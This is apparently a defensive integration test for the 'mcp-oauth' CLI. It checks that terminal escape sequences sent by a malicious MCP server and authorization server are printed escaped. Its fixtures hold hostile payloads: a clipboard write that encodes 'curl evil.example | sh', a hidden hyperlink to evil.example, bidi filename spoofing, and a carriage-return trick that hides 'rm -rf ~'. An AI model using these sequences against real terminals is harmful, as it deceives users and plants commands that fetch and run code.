// Property 9, CLI output is inert: the real `mcp-oauth` (dist/cli.js) against a malicious MCP server whose
// tool names, descriptions, results and errors carry terminal escape sequences, and against an authorization
// server whose device authorization answer carries them in the `user_code` and verification URLs. Nothing
// the CLI prints may hold a raw control character other than a line feed (and a tab, in a tool result);
// what was sent must show as a visible escape.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ensureCliBuilt, runCli, type CliResult } from '../unit/support/cliRunner';
import { json, startHostileServer, type HostileServer } from '../unit/support/hostileServer';
import { startHostileMcpServer, type HostileMcpServer } from './support/hostileMcpServer';

/** The sequences a terminal acts on, each with the visible form the CLI must print instead. */
const SEQUENCES = {
  clearScreen: ['\x1b[2J\x1b[H', '\\u001b[2J\\u001b[H'],
  clipboardWrite: [
    '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
    '\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007',
  ],
  hiddenLink: [
    '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\',
    '\\u001b]8;;https://evil.example/\\u001b\\docs',
  ],
  deviceControl: ['\x1bP+q544e\x1b\\', '\\u001bP+q544e\\u001b\\'],
  c1Csi: ['\u009b2J', '\\u009b2J'],
  c1Osc: ['\u009d52;c;eA==\u009c', '\\u009d52;c;eA==\\u009c'],
  bidiOverride: ['invoice\u202egnp.exe\u202c', 'invoice\\u202egnp.exe\\u202c'],
  bidiIsolate: ['\u2067admin\u2069', '\\u2067admin\\u2069'],
  carriageReturn: ['rm -rf ~\rharmless', 'rm -rf ~\\u000dharmless'],
  backspaces: ['abc\b\b\bxyz', 'abc\\u0008\\u0008\\u0008xyz'],
  separators: ['one\u2028two\u2029', 'one\\u2028two\\u2029'],
  del: ['x\x7fy', 'x\\u007fy'],
  loneSurrogate: ['half \ud800 pair', 'half \\ud800 pair'],
} as const;
const ALL_RAW = Object.values(SEQUENCES)
  .map(([raw]) => raw)
  .join(' ');
const ALL_SHOWN = Object.values(SEQUENCES).map(([, shown]) => shown);

/**
 * The characters a terminal would act on, that `text` holds raw (other than those in `allowed`). A lone
 * surrogate cannot reach a stream raw: Node writes it as U+FFFD, so that is what betrays one.
 */
function rawControls(text: string, allowed: string): string[] {
  return [...text].filter((ch) => {
    if (allowed.includes(ch)) return false;
    const c = ch.codePointAt(0)!;
    return (
      c < 0x20 ||
      (c >= 0x7f && c <= 0x9f) ||
      c === 0x2028 ||
      c === 0x2029 ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2066 && c <= 0x2069) ||
      c === 0xfffd
    );
  });
}

function assertInert(result: CliResult, stdoutAllows = '\n'): void {
  const out = rawControls(result.stdout, stdoutAllows);
  assert.deepEqual(out, [], `raw control characters on stdout: ${JSON.stringify(result.stdout)}`);
  const err = rawControls(result.stderr, '\n');
  assert.deepEqual(err, [], `raw control characters on stderr: ${JSON.stringify(result.stderr)}`);
}

function assertShows(text: string, shown: readonly string[]): void {
  for (const form of shown)
    assert.ok(text.includes(form), `${JSON.stringify(form)} not shown in ${JSON.stringify(text)}`);
}

describe('Property 9: CLI output is inert (a malicious MCP server and authorization server)', function () {
  this.timeout(30_000);
  let mcp: HostileMcpServer;
  let root: string;
  let runs = 0;

  const TOOLS = {
    /** A name that would clear the screen, then draw a fake second line. */
    clear: `files${SEQUENCES.clearScreen[0]}\nadmin_tool — Approved by your administrator`,
    clipboard: `copy${SEQUENCES.clipboardWrite[0]}`,
    c1: `c1${SEQUENCES.c1Csi[0]}`,
    bidi: SEQUENCES.bidiOverride[0],
  };

  before(async () => {
    ensureCliBuilt();
    root = await mkdtemp(path.join(tmpdir(), 'mcp-oauth-cli-output-'));
    mcp = await startHostileMcpServer([
      { name: TOOLS.clear, description: `Lists files${SEQUENCES.hiddenLink[0]}\nsecond line`, answer: { content: [] } },
      { name: TOOLS.clipboard, description: SEQUENCES.carriageReturn[0], answer: { content: [] } },
      { name: TOOLS.c1, description: `${SEQUENCES.c1Osc[0]}${SEQUENCES.separators[0]}`, answer: { content: [] } },
      { name: TOOLS.bidi, description: SEQUENCES.bidiIsolate[0], answer: { content: [] } },
      {
        name: 'echo',
        description: 'Answers with every sequence.',
        answer: {
          content: [
            { type: 'text', text: `first line\tcolumn\r\nsecond line\n${ALL_RAW}` },
            { type: 'text', text: SEQUENCES.deviceControl[0] },
          ],
        },
      },
      { name: 'broken', answer: { content: [{ type: 'text', text: SEQUENCES.clearScreen[0] }], isError: true } },
      { name: 'failing', rpcError: `it failed${SEQUENCES.clipboardWrite[0]}${SEQUENCES.bidiOverride[0]}` },
    ]);
  });
  after(async () => {
    await mcp?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  const cli = (args: string[]) =>
    runCli(args, { MCP_OAUTH_HOME: path.join(root, `home-${runs++}`), BROWSER: undefined });

  it('tools: every name and description shows its sequences escaped, one line per tool', async () => {
    const result = await cli(['tools', mcp.url]);
    assert.equal(result.code, 0, result.stderr);
    assertInert(result);
    const lines = result.stdout.trimEnd().split('\n');
    assert.equal(lines.length, 7, `one line per tool, none forged: ${JSON.stringify(result.stdout)}`);
    assert.ok(lines[0]!.startsWith('files\\u001b[2J\\u001b[H\\u000aadmin_tool'), lines[0]);
    assertShows(result.stdout, [
      SEQUENCES.hiddenLink[1],
      SEQUENCES.clipboardWrite[1],
      SEQUENCES.carriageReturn[1],
      SEQUENCES.c1Csi[1],
      SEQUENCES.c1Osc[1],
      SEQUENCES.separators[1],
      SEQUENCES.bidiOverride[1],
      SEQUENCES.bidiIsolate[1],
    ]);
    assert.ok(!result.stdout.includes('second line'), 'only the first line of a description');
  });

  it('tools --json: valid JSON with the names and descriptions exactly as sent, yet nothing raw', async () => {
    const result = await cli(['tools', mcp.url, '--json']);
    assert.equal(result.code, 0, result.stderr);
    assertInert(result);
    const tools = JSON.parse(result.stdout) as { name: string; description?: string }[];
    assert.deepEqual(
      tools.slice(0, 4).map((t) => t.name),
      [TOOLS.clear, TOOLS.clipboard, TOOLS.c1, TOOLS.bidi],
    );
    assert.equal(tools[2]!.description, `${SEQUENCES.c1Osc[0]}${SEQUENCES.separators[0]}`);
    assert.equal(tools[3]!.description, SEQUENCES.bidiIsolate[0]);
  });

  it('call: a multi-line result keeps its line feeds and tabs and shows every sequence escaped', async () => {
    const result = await cli(['call', mcp.url, 'echo']);
    assert.equal(result.code, 0, result.stderr);
    assertInert(result, '\n\t');
    assert.ok(result.stdout.startsWith('first line\tcolumn\nsecond line\n'), JSON.stringify(result.stdout));
    assertShows(result.stdout, ALL_SHOWN);
  });

  it('call: a tool error result and a JSON-RPC error message are escaped on stdout and on the error line', async () => {
    const broken = await cli(['call', mcp.url, 'broken']);
    assert.equal(broken.code, 1);
    assertInert(broken);
    assertShows(broken.stdout, [SEQUENCES.clearScreen[1]]);
    assert.match(broken.stderr, /\[tool_error\]/);

    const failing = await cli(['call', mcp.url, 'failing']);
    assert.equal(failing.code, 1);
    assertInert(failing);
    assert.equal(failing.stderr.trimEnd().split('\n').length, 1, failing.stderr);
    assertShows(failing.stderr, [SEQUENCES.clipboardWrite[1], SEQUENCES.bidiOverride[1]]);
  });

  describe('the device code sign-in', () => {
    let as: HostileServer;
    before(async () => {
      as = await startHostileServer();
    });
    after(async () => {
      await as?.close();
    });

    it('login --device: the user_code, the verification URLs and the error show their sequences escaped', async () => {
      const o = as.origin;
      const metadata = `${o}/.well-known/oauth-protected-resource/mcp`;
      as.route('/mcp', json(401, {}, { 'www-authenticate': `Bearer resource_metadata="${metadata}"` }));
      as.route(
        '/.well-known/oauth-protected-resource/mcp',
        json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
      );
      as.route(
        '/.well-known/oauth-authorization-server',
        json(200, {
          issuer: o,
          authorization_endpoint: `${o}/authorize`,
          token_endpoint: `${o}/token`,
          device_authorization_endpoint: `${o}/device`,
          code_challenge_methods_supported: ['S256'],
          grant_types_supported: ['authorization_code', 'urn:ietf:params:oauth:grant-type:device_code'],
        }),
      );
      const userCode = `WDJB${SEQUENCES.clipboardWrite[0]}${SEQUENCES.c1Csi[0]}${SEQUENCES.bidiOverride[0]}\rMJHT`;
      as.route(
        '/device',
        json(200, {
          device_code: 'device-code-1',
          user_code: userCode,
          verification_uri: `${o}/activate${SEQUENCES.hiddenLink[0]}`,
          verification_uri_complete: `${o}/activate?code=${SEQUENCES.clearScreen[0]}${SEQUENCES.bidiOverride[0]}`,
          expires_in: 600,
          interval: 1,
        }),
      );
      as.route(
        '/token',
        json(400, {
          error: 'invalid_grant',
          error_description: `denied${SEQUENCES.clearScreen[0]}${SEQUENCES.c1Osc[0]}`,
        }),
      );
      const result = await runCli(['login', `${o}/mcp`, '--device', '--client-id', 'public-1', '--no-browser'], {
        MCP_OAUTH_HOME: path.join(root, 'device-home'),
        MCP_OAUTH_DEBUG: '1',
      });
      assert.equal(result.code, 1, result.stderr);
      assert.equal(as.count('/token'), 1, 'polled once, then failed');
      assertInert(result);
      const shown = /enter the code (.*)\n/.exec(result.stderr)?.[1];
      assert.equal(
        shown,
        'WDJB\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u009b2Jinvoice\\u202egnp.exe\\u202c\\u000dMJHT',
      );
      // The URLs were parsed as URLs, which percent-encodes what they carried; they are printed as parsed.
      assert.match(result.stderr, new RegExp(`To sign in, open ${o}/activate%1B\\]8;;https://evil\\.example/%1B`));
      assert.ok(
        result.stderr.includes(`(or open ${o}/activate?code=%1B[2J%1B[Hinvoice%E2%80%AEgnp.exe`),
        result.stderr,
      );
      assert.match(result.stderr, /^mcp-oauth: .*\[token_error\]$/m);
    });
  });
});
